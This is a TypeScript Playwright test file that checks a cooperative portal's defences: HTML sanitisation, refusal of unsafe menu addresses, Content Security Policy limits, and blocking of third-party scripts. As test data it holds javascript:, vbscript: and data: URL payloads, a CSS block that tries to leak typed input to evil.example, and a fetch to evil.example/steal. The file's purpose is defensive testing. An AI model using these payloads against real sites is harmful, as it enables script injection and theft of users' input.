import { paths } from '@coopline/contract/paths'
import type { Page } from 'playwright-core'
import { beforeAll, describe, expect, test } from 'vitest'
import { newVisitor, unexpected } from './support/browser.ts'
import { type PortalUnderTest, startPortalUnderTest } from './support/portal-under-test.ts'
import { swallowingVectors, xssVectors } from './support/xss-vectors.ts'

let portal: PortalUnderTest

beforeAll(async () => {
  portal = await startPortalUnderTest()
  return portal.close
})

/** Lists the attributes and elements of the page that could run foreign code. */
const dangersIn = (page: Page) =>
  page.evaluate(() => {
    const dangers: string[] = []
    for (const element of document.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        if (/^on/iu.test(name)) dangers.push(`${element.tagName} ${name}`)
        const isAddress = [
          'href',
          'src',
          'action',
          'formaction',
          'xlink:href',
          'data',
          'srcset',
          'ping',
          'background',
        ].includes(name)
        // oxlint-disable-next-line no-control-regex
        if (isAddress && /^[\s\u0000-\u0020]*(?:javascript|vbscript|data):/iu.test(value))
          dangers.push(`${element.tagName} ${name}=${value}`)
      }
      if (/^(?:iframe|object|embed|applet|base|frame|form|marquee|portal)$/iu.test(element.tagName))
        dangers.push(element.tagName)
    }
    // The page's own follows its data in the head, and is the one that the policy names.
    const own = document.querySelector('head > #coopline-start ~ script:not([src])')
    for (const script of document.scripts)
      if (script.src === '' && script.type !== 'application/json' && script !== own)
        dangers.push(`inline script ${script.text}`)
    for (const content of document.querySelectorAll('[data-ui="content"]'))
      if (
        content.querySelector(
          'script, style, svg, math, link, meta, input, button, template, [style], [id], [srcset]',
        ) !== null
      )
        dangers.push('not allowed in content')
    return dangers
  })

const marked = (vectors: readonly string[]): string =>
  vectors.map((vector, index) => `<p>before-${index}</p>${vector}<p>after-${index}.</p>`).join('\n')

describe('HTML in settings', () => {
  test('over 70 vectors in aboutUs, legalContent and the announcement show their words only: no script, window, handler or call to another site [SEC-52]', async () => {
    expect(xssVectors.length).toBeGreaterThan(70)
    const [inFooter = '', inTerms = '', inAnnouncement = ''] = swallowingVectors
    await portal.set({
      aboutUs: marked(xssVectors) + inFooter,
      legalContent: marked(xssVectors.toReversed()) + inTerms,
      emergencyAnnouncementMessage: marked(xssVectors) + inAnnouncement,
      displayEmergencyAnnouncement: 'Y',
    })
    const visitor = await newVisitor()
    const { page, context, origins, popups } = visitor
    await page.goto(portal.origin + paths.legalTerms())
    await page.getByRole('main').getByText('after-0.', { exact: true }).waitFor()
    const places = [
      page.getByRole('main'),
      page.getByRole('contentinfo'),
      page.getByRole('region', { name: 'Announcement' }),
    ]
    for (const place of places) {
      const words = await place.innerText()
      const lost = xssVectors.map((_, index) => index).filter((index) => !words.includes(`after-${index}.`))
      expect(lost).toEqual([])
    }
    for (const link of await page.getByRole('main').getByRole('link', { name: 'x', exact: true }).all())
      expect(await link.getAttribute('href')).toMatch(/^https:\/\//u)
    for (const word of await page.getByRole('main').getByText('x', { exact: true }).all())
      await word.hover({ force: true })
    await page.waitForLoadState('networkidle')
    expect(await dangersIn(page)).toEqual([])
    expect(await page.evaluate(() => '__x' in window)).toBe(false)
    expect(popups).toEqual([])
    expect([...origins]).toEqual([portal.origin])
    expect(unexpected(visitor)).toEqual([])
    expect(context.pages().length).toBe(1)
    await context.close()
    await portal.set({ displayEmergencyAnnouncement: 'N', aboutUs: '', legalContent: '' })
  })

  test('the browser refuses a string that a script writes as markup [SEC-52]', async () => {
    const { page } = await newVisitor()
    await page.goto(portal.origin + paths.home())
    const outcome = await page.evaluate(() => {
      try {
        document.body.insertAdjacentHTML('beforeend', '<img src=x>')
        return 'written'
      } catch (error) {
        return error instanceof TypeError ? 'TypeError' : String(error)
      }
    })
    expect(outcome).toBe('TypeError')
  })
})

const menuEntry = (title: string, moduleLink: string, external: boolean) => ({
  title,
  moduleLink,
  external,
  megaMenu: false,
  position: 1,
  subMenu: [],
})

describe('addresses in settings', () => {
  const bad = [
    'javascript:window.__x=1',
    'JaVaScRiPt:window.__x=1',
    'java\tscript:window.__x=1',
    ' javascript:window.__x=1',
    'data:text/html,<script>window.__x=1</script>',
    'vbscript:x',
    '//evil.example/x',
    String.raw`/\evil.example/x`,
    'https:evil.example',
    'https://user:pass@evil.example/',
  ]

  test('refuses or leaves out a menu entry with such an address; opens other sites in a new window without opener [SEC-54]', async () => {
    const entries = bad.map((address, index) => menuEntry(`Bad ${index}`, address, index % 2 === 0))
    const good = [menuEntry('Terms', '/legal-terms', false), menuEntry('Weather', 'https://weather.example/', true)]
    const accepted = await portal.set({ useCustomMenu: 'Y', mcpMenu: [...good, ...entries] }).then(
      () => true,
      () => false,
    )
    if (!accepted) await portal.set({ useCustomMenu: 'Y', mcpMenu: good })
    const { page, context } = await newVisitor({ viewport: { width: 1280, height: 900 } })
    await page.goto(portal.origin + paths.home())
    const menu = page.getByRole('navigation', { name: 'Main' })
    await menu.getByRole('link', { name: 'Terms' }).waitFor()
    expect(await menu.getByRole('link', { name: /Bad/u }).count()).toBe(0)
    const weather = menu.getByRole('link', { name: /Weather/u })
    expect(await weather.getAttribute('target')).toBe('_blank')
    expect(await weather.getAttribute('rel')).toContain('noopener')
    expect(await dangersIn(page)).toEqual([])
    await context.close()
    await portal.set({ useCustomMenu: 'N', mcpMenu: [] })
  })

  test('the cooperative’s logo and chat load from the addresses that are set and the policy names just those [SEC-54]', async () => {
    await portal.set({
      portalLogoPath: 'https://images.example/logo.png',
      webChatSetting: { ...noChat, scriptUrl: 'https://chat.example/chat.js', apiUrl: 'https://api.chat.example/v1' },
    })
    const { page, context, origins } = await newVisitor()
    await context.route(/^https:/u, (route) =>
      route.fulfill({ contentType: 'text/javascript', body: 'window.chatLoaded = true' }),
    )
    const answer = await page.goto(portal.origin + paths.home())
    await expect.poll(() => page.evaluate(() => 'chatLoaded' in window)).toBe(true)
    const policy = answer?.headers()['content-security-policy'] ?? ''
    expect(policy).toMatch(/script-src 'self' 'sha256-[\w+/]+=*' https:\/\/chat\.example;/u)
    expect(policy).toContain("img-src 'self' data: blob: https://images.example;")
    expect(policy).toContain("connect-src 'self' https://chat.example https://api.chat.example;")
    expect([...origins].sort()).toEqual([portal.origin, 'https://chat.example', 'https://images.example'])
    const stray = await page.evaluate(async () => {
      try {
        await fetch('https://evil.example/steal')
        return 'sent'
      } catch {
        return 'refused'
      }
    })
    expect(stray).toBe('refused')
    await context.close()
    await portal.set({ portalLogoPath: '', webChatSetting: noChat })
  })

  test('the cooperative’s style sheet applies where passwords and payments are typed, and can send nothing to another site [SH-78, SEC-54]', async () => {
    await portal.set({
      featureFlagCustomCss: '/brand/custom.css',
      portalLogoPath: 'https://images.example/logo.png',
    })
    const { page, context } = await newVisitor()
    const own: string[] = []
    // The browser reports a request that the policy blocks, too. Only one that leaves is routed.
    const left: string[] = []
    await context.route(/^https:/u, async (route) => {
      left.push(route.request().url())
      await route.abort()
    })
    await context.route(/\/brand\//u, async (route) => {
      own.push(new URL(route.request().url()).pathname)
      if (route.request().resourceType() === 'stylesheet')
        return route.fulfill({ contentType: 'text/css', body: leaking })
      return route.fulfill({ status: 404 })
    })
    const spacing = async () =>
      page.getByRole('heading', { level: 1 }).evaluate((title) => getComputedStyle(title).letterSpacing)
    for (const path of [paths.quickPay(), paths.home()]) {
      const answer = await page.goto(portal.origin + path)
      await expect.poll(spacing).toBe('7px')
      expect(answer?.headers()['content-security-policy']).toContain("img-src 'self' data: blob:; font-src 'self';")
    }
    // Within the document of a page without secrets.
    await page.getByRole('link', { name: 'Sign In' }).first().click()
    await page.getByLabel('Password', { exact: true }).fill('secret')
    await expect.poll(spacing).toBe('7px')
    await expect.poll(() => own).toContain('/brand/own.png')
    expect(own).toContain('/brand/own.woff2')
    expect(left).toEqual([])
    await context.close()
    await portal.set({ featureFlagCustomCss: '', portalLogoPath: '' })
  })
})

/** Tries every way a style sheet has to load something; the own files are those that it may. */
const leaking = `
@import 'https://evil.example/more.css';
@font-face { font-family: leak; src: url('https://evil.example/leak.woff2') }
@font-face { font-family: own; src: url('/brand/own.woff2') }
h1 { letter-spacing: 7px; font-family: own, leak }
input { background-image: url('https://evil.example/typed') }
input[type='password'] { list-style-image: url('https://evil.example/list'); cursor: url('https://evil.example/cursor'), text }
main { background-image: url('/brand/own.png'); border-image: url('https://evil.example/border') 1 }
body { background: image-set('https://images.example/leak?typed' 1x); filter: url('https://evil.example/filter.svg#f') }
h1::before { content: url('https://images.example/content?typed') }
`

const noChat = {
  apiUrl: '',
  scriptUrl: '',
  coopId: '',
  subTitle: '',
  userName: '',
  introText: '',
  virtualAgentName: 'Virtual Agent',
  buttons: [],
}

describe('third-party scripts', () => {
  test('are requested exactly on the pages whose security policy allows them [SEC-63]', async () => {
    await portal.set({ googleAnalyticsCode: 'G-1', tagManagerUrl: 'https://tags.example/gtag/js' })
    const visitor = await newVisitor()
    const { page, context } = visitor
    let requested = false
    await context.route('https://tags.example/**', async (route) => {
      requested = true
      await route.fulfill({ contentType: 'text/javascript', body: '' })
    })
    let policy = ''
    page.on('response', (response) => {
      if (response.request().isNavigationRequest() && response.status() !== 302)
        policy = response.headers()['content-security-policy'] ?? ''
    })
    const scripted = new Set<string>()
    // Page tests compare the decisions of server and browser for every path; here the browser obeys them.
    const without = [paths.quickPay(), paths.paymentCancel(), paths.login(), '/home)', '/no-such-page']
    for (const path of ['/', paths.home(), paths.servicesProducts(), paths.legalTerms(), ...without]) {
      requested = false
      await page.goto(portal.origin + path)
      await page.waitForLoadState('networkidle')
      const allowed = policy.includes('https://tags.example')
      await expect.poll(() => [path, requested]).toEqual([path, allowed])
      if (requested) scripted.add(new URL(page.url()).pathname)
      expect(unexpected(visitor), path).toEqual([])
    }
    expect([...scripted].toSorted()).toEqual(['/', paths.home(), paths.legalTerms(), paths.servicesProducts()])
    await portal.set({ googleAnalyticsCode: '' })
  })
})
